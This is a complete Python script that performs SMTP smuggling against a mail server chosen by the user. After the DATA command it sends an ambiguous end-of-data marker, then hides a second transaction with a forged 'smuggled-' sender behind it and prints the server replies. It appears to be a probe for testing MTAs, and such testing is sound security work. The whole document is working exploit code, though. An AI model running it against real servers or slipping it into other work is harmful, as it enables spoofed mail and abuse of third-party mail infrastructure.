#!/usr/bin/env python3
# SPDX-License-Identifier: GPL-2.0-only
"""An SMTP client that ends a message with an end-of-data marker MTAs disagree on and smuggles
a second transaction behind it (the shapes of the 2023 SMTP smuggling research). Sends, after
DATA's 354: a body, MARKER, then "MAIL FROM:<smuggled-TAG@client.example>", RCPT, DATA, a
second body and a standard <CR><LF>.<CR><LF>; then reads the replies until the server is quiet,
and QUITs. Prints the replies after the 354 on stdout. Standard library only.

usage: smuggle_client.py SERVER FROM RCPT TAG MARKER
MARKER spells the bytes with CR and LF for carriage return and line feed, "." for the dot:
"LF.CRLF" is <LF>.<CR><LF>.
"""
import socket
import sys
import time


def replies(sock, quiet=1.0):
    sock.settimeout(quiet)
    data = b""
    while True:
        try:
            chunk = sock.recv(4096)
        except socket.timeout:
            return data
        if not chunk:
            return data
        data += chunk


def expect(sock, code):
    got = b""
    while not any(line[3:4] == b" " for line in got.split(b"\r\n") if len(line) >= 4):
        chunk = sock.recv(4096)
        if not chunk:
            break
        got += chunk
    if not got.startswith(code):
        sys.exit(f"smuggle_client: wanted {code!r}, got {got!r}")


def main():
    server, frm, rcpt, tag, marker = sys.argv[1:6]
    raw = marker.replace("CR", "\r").replace("LF", "\n").encode()
    with socket.create_connection((server, 25), timeout=10) as s:
        expect(s, b"220")
        for line, code in ((b"EHLO smuggler.client.example", b"250"),
                           (b"MAIL FROM:<" + frm.encode() + b">", b"250"),
                           (b"RCPT TO:<" + rcpt.encode() + b">", b"250"),
                           (b"DATA", b"354")):
            s.sendall(line + b"\r\n")
            expect(s, code)
        first = b"Subject: first " + tag.encode() + b"\r\n\r\nfirst body\r\nlast line"
        second = (b"MAIL FROM:<smuggled-" + tag.encode() + b"@client.example>\r\n"
                  b"RCPT TO:<" + rcpt.encode() + b">\r\nDATA\r\n"
                  b"Subject: smuggled " + tag.encode() + b"\r\n\r\nsmuggled body\r\n.\r\n")
        s.sendall(first + raw + second)
        got = replies(s)
        s.sendall(b"QUIT\r\n")
        got += replies(s, 0.5)
        time.sleep(0.1)
    sys.stdout.write(got.decode(errors="replace"))


if __name__ == "__main__":
    main()
